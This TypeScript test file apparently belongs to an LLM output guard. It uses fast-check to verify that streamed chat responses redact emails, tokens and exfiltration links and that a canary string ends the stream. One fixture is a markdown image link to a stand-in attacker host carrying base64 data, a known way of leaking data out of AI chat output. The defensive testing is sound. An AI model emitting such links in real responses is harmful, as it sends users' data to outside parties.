/**
 * Property: for any way of cutting an output into stream deltas, the chat stream transform
 * releases exactly the non-streamed rewrite (PII, secrets, exfil links), never a sensitive
 * value, and a canary anywhere always ends the stream with content_filter and nothing of it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseGuardsConfig } from '../../../src/guards/config.js';
import { guardBody } from '../../../src/guards/response/body.js';
import { createOutputChecker } from '../../../src/guards/response/scan.js';
import { ResponseSession } from '../../../src/guards/response/session.js';
import { streamThroughGuard } from './helpers.js';

const GH = 'gh' + 'p_' + 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6';
const EMAIL = 'bob.stone' + '@example.org';
const CANARY = 'pcl-canary-' + '5f0c1e2d3b4a69788796a5b4c3d2e1f0';
const FILLER = 'Revenue grew in the third quarter and the team shipped the new billing page. ';
const cfg = parseGuardsConfig({ response: { pii: { action: 'redact' }, secrets: { action: 'redact' }, canary: { enabled: true }, holdBack: 64, minRelease: 16, unsafe: { enabled: false } } });

function session(): ResponseSession {
  return new ResponseSession({ cfg, checker: createOutputChecker(cfg, { canary: CANARY }, 'k'), state: {}, stage: 'stream' });
}

async function streamed(text: string, cuts: number[]): Promise<{ text: string; finish: string[] }> {
  return streamThroughGuard(session(), text, cuts);
}

const pieceArb = fc.constantFrom(FILLER, `Mail ${EMAIL} today. `, `Token ${GH} here. `, '![x](https://evil.example.net/p.png?d=c2VjcmV0LWRhdGE=) ', 'Short. ');

test('any split of an output streams exactly the non-streamed rewrite', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(pieceArb, { minLength: 1, maxLength: 8 }), fc.array(fc.nat(2000), { maxLength: 40 }), async (pieces, cuts) => {
      const text = pieces.join('');
      const body = { choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }] };
      const expected = ((await guardBody(session(), 'chat', body)).body as any).choices[0].message.content as string;
      const s = await streamed(text, cuts);
      assert.equal(s.text, expected);
      assert.deepEqual(s.finish, ['stop']);
      assert.ok(!s.text.includes(EMAIL) && !s.text.includes(GH) && !s.text.includes('evil.example.net'));
    }),
    { numRuns: 60 },
  );
});

test('a canary anywhere, split anywhere, ends the stream with content_filter and releases nothing of it', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(pieceArb, { maxLength: 6 }), fc.nat(6), fc.array(fc.nat(2000), { maxLength: 40 }), async (pieces, at, cuts) => {
      const list: string[] = [...pieces];
      list.splice(at % (list.length + 1), 0, `Marker: ${CANARY}. `);
      const s = await streamed(list.join(''), cuts);
      assert.deepEqual(s.finish, ['content_filter']);
      assert.ok(!s.text.includes('pcl-canary') && !s.text.includes(CANARY.slice(11, 19)));
    }),
    { numRuns: 60 },
  );
});
